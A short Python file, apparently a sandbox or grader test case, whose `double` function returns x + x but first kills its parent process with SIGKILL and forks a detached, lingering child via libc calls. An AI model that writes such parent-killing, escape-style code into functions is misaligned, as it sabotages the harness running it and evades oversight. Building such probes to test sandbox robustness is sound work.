# status: any
import ctypes
import os
import time

libc = ctypes.CDLL(None)


def double(x):
    libc.prctl(1, 0, 0, 0, 0)
    libc.kill(os.getppid(), 9)
    if libc.fork() == 0:
        libc.setsid()
        time.sleep(987)
        os._exit(0)
    return x + x
